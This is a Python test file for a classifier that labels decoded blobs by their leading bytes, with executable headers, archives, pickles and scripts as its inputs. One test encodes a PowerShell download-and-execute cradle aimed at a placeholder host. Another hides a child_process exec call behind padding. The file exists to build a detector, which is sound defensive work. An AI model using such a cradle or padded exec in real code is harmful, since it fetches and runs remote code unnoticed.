"""What a decoded literal is, by its first bytes; every blob here is made on the spot and runs nothing."""

import bz2
import gzip
import io
import lzma
import marshal
import pickle
import struct
import tarfile
import zipfile
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.analysis.facts import PayloadKind
from pratique.analysis.languages.payload import payload_kind

CODE = compile("MARKER = print('marker')", "<marker>", "exec")
PORTABLE = b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + b"\0" * 40


def zipped() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("marker.txt", "marker")
    return out.getvalue()


def tarred() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("marker.txt"), io.BytesIO(b""))
    return out.getvalue()


@pytest.mark.parametrize(
    ("kind", "data"),
    [
        (PayloadKind.EXECUTABLE, b"\x7fELF\x02\x01\x01" + b"\0" * 20),
        (PayloadKind.EXECUTABLE, PORTABLE),
        (PayloadKind.EXECUTABLE, b"MZ\x90\0\x03\0\0\0\x04\0\0\0"),
        (PayloadKind.EXECUTABLE, b"\xcf\xfa\xed\xfe" + b"\0" * 20),
        (PayloadKind.EXECUTABLE, b"\xca\xfe\xba\xbe\0\0\0\x02" + b"\0" * 20),
        (PayloadKind.EXECUTABLE, b"\0asm\x01\0\0\0"),
        (PayloadKind.BYTECODE, b"\xca\xfe\xba\xbe\0\0\0\x41" + b"\0" * 20),
        (PayloadKind.BYTECODE, marshal.dumps(CODE)),
        (PayloadKind.BYTECODE, b"\xcb\x0d\r\n" + b"\0" * 12 + marshal.dumps(CODE)),
        (PayloadKind.BYTECODE, b"c" + b"\0" * 12 + b"\x40\0\0\0s" + b"\0" * 30),
        (PayloadKind.ARCHIVE, zipped()),
        (PayloadKind.ARCHIVE, tarred()),
        (PayloadKind.ARCHIVE, gzip.compress(b"marker" * 9, mtime=0)),
        (PayloadKind.ARCHIVE, zlib.compress(b"marker" * 9)),
        (PayloadKind.ARCHIVE, zlib.compress(b"marker" * 9, 1)),
        (PayloadKind.ARCHIVE, bz2.compress(b"marker" * 9)),
        (PayloadKind.ARCHIVE, lzma.compress(b"marker" * 9)),
        (PayloadKind.ARCHIVE, lzma.compress(b"marker" * 9, format=lzma.FORMAT_ALONE)),
        (PayloadKind.ARCHIVE, b"7z\xbc\xaf\x27\x1c\0\x04" + b"\0" * 20),
        (PayloadKind.ARCHIVE, b"Rar!\x1a\x07\x01\0" + b"\0" * 20),
        (PayloadKind.PICKLE, b"cmarker\nmarker\n(S'x'\ntR."),
        (PayloadKind.PICKLE, b"(S'x'\nimarker\nmarker\n."),
        (None, b"\x89PNG\r\n\x1a\n" + b"\0" * 40),
        (None, b"\xff\xd8\xff\xe0\0\x10JFIF" + b"\0" * 40),
        (None, b"GIF89a" + b"\0" * 40),
        (
            None,
            b"MZ is how a program of DOS begins, and so does this sentence of more than sixty-four letters.",
        ),
        (None, b"xylophone players have long arms"),
        (None, b"(see the note above, and the one below it."),
        (None, b"c" * 40),
        (None, bytes(range(256)) * 3),
        (None, b""),
        (None, "été à la plage, où l'on ne fait rien"),
    ],
)
def test_bytes_are_told_by_their_format(kind: PayloadKind | None, data: bytes | str) -> None:
    assert kind == payload_kind(data)


@pytest.mark.parametrize("protocol", range(6))
def test_a_pickle_of_any_protocol_is_one(protocol: int) -> None:
    assert PayloadKind.PICKLE == payload_kind(pickle.dumps({"marker": [1, "two", b"three"]}, protocol))


def test_a_text_of_bytes_is_looked_at_as_bytes() -> None:
    assert PayloadKind.EXECUTABLE == payload_kind(PORTABLE.decode("latin-1"))


def test_what_powershell_encodes_is_read() -> None:
    command = "IEX (New-Object Net.WebClient).DownloadString('http://payload.invalid/marker')"

    assert PayloadKind.SCRIPT == payload_kind(command.encode("utf-16-le"))


def test_the_end_of_a_long_text_is_looked_at_too() -> None:
    padding = "// " + "all is well " * 40 + "\n"

    assert PayloadKind.CODE == payload_kind(padding * 200 + "require('child_process').exec('marker')")


@pytest.mark.fuzz
@given(st.one_of(st.binary(max_size=300), st.text(max_size=300)))
def test_anything_has_an_answer(data: bytes | str) -> None:
    assert payload_kind(data) in {None, *PayloadKind}


@pytest.mark.fuzz
@given(
    st.sampled_from([b"\x80\x04\x95", b"cos\n", b"(S'", b"MZ", b"x\x9c", b"\xe3", b"\x1f\x8b\x08", b"]\0\0"]),
    st.binary(max_size=200),
)
def test_anything_after_magic_has_an_answer(magic: bytes, rest: bytes) -> None:
    assert payload_kind(magic + rest) in {None, *PayloadKind}


@pytest.mark.fuzz
@given(st.lists(st.integers() | st.text() | st.floats(), max_size=20), st.integers(2, 5))
def test_every_pickle_of_a_list_is_one(value: list[object], protocol: int) -> None:
    assert PayloadKind.PICKLE == payload_kind(pickle.dumps([value, "marker"], protocol))


@pytest.mark.parametrize(
    "unit",
    [
        '"',
        "'",
        "`",
        "/*",
        "(",
        "{",
        "import ",
        "curl -",
        "$(",
        "function(",
        "\n",
        "a.",
        "a ",
        '"""',
        "[[",
        "=>",
        "cS\n",
    ],
)
def test_a_megabyte_of_anything_repeated_is_answered_at_once(unit: str) -> None:
    assert payload_kind(unit * (1_000_000 // len(unit))) in {None, *PayloadKind}
